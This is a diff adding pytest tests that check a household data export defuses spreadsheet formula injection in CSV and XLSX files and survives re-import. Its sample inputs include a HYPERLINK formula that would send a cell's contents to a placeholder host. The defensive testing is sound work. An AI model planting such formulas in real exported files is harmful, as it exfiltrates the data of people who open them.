@@ -8,6 +8,7 @@ import zipfile
 import pyogrio
 import pyproj
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import func, select, text
 
 from app import exports
@@ -175,6 +176,68 @@ def test_export_then_import_gives_the_same_households(tmp_path, accounts, county
         dx = (row[10] - h.geometry.x) * 111_320 * math.cos(math.radians(h.geometry.y))
         worst = max(worst, math.hypot(dx, (row[11] - h.geometry.y) * 110_574))
     assert worst < 0.001
+
+
+# Addresses a spreadsheet program would run as formulas (OWASP's first characters).
+RISKY = ['=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1+1"]
+
+
+def _make_risky(county) -> dict[str, str]:
+    """Give five households an address, and the first a head's name, that look like formulas."""
+    codes = list(county.households.code.head(len(RISKY)))
+    for code, value in zip(codes, RISKY, strict=True):
+        db.session.execute(text("UPDATE household SET address = :v WHERE code = :c"), {"v": value, "c": code})
+    db.session.execute(text("UPDATE household SET head_name = '=1+2' WHERE code = :c"), {"c": codes[0]})
+    return dict(zip(codes, RISKY, strict=True))
+
+
+def _csv_rows(path) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+
+
+@pytest.mark.usefixtures("app_context")
+def test_formula_looking_text_is_quoted_in_a_csv_and_numbers_stay_numbers(tmp_path, accounts, county):
+    risky = _make_risky(county)
+    exports.export("households", "csv", user=user(accounts, "admin"), out=tmp_path / "h.csv")
+    rows = {r["code"]: r for r in _csv_rows(tmp_path / "h.csv")}
+    for code, value in risky.items():
+        assert rows[code]["address"] == "'" + value
+    assert rows[next(iter(risky))]["head_name"] == "'=1+2"
+    for row in rows.values():
+        assert float(row["lon"]) > 100 and row["members"].isdigit()
+        for field, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (field, cell)
+
+
+@pytest.mark.usefixtures("app_context")
+def test_formula_looking_text_is_a_text_cell_in_an_xlsx(tmp_path, accounts, county):
+    risky = _make_risky(county)
+    exports.export("households", "xlsx", user=user(accounts, "admin"), out=tmp_path / "h.xlsx")
+    sheet = load_workbook(tmp_path / "h.xlsx")["households"]
+    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+    cells = {row[header.index("code")].value: row for row in sheet.iter_rows(min_row=2)}
+    for code, value in risky.items():
+        address = cells[code][header.index("address")]
+        assert address.data_type == "s" and address.value == "'" + value
+    for row in cells.values():
+        assert row[header.index("members")].data_type == "n" and row[header.index("lon")].data_type == "n"
+        assert all(c.data_type != "f" and not str(c.value).startswith("=") for c in row)
+
+
+@pytest.mark.usefixtures("app_context")
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_neutralised_export_re_imports_unchanged(tmp_path, accounts, county, fmt):
+    risky = _make_risky(county)
+    exports.export("households", fmt, user=user(accounts, "admin"), out=tmp_path / f"h.{fmt}")
+    db.session.execute(text("DELETE FROM household"))
+    result = import_households(tmp_path / f"h.{fmt}")
+    assert result.problems == [] and result.inserted == len(county.households)
+    stored = dict(db.session.execute(text("SELECT code, address FROM household")).all())
+    assert {code: stored[code] for code in risky} == risky
+    name = db.session.execute(
+        text("SELECT head_name FROM household WHERE code = :c"), {"c": next(iter(risky))}
+    ).scalar_one()
+    assert name == "=1+2"
 
 
 # --- HTTP and CLI ---------------------------------------------------------------
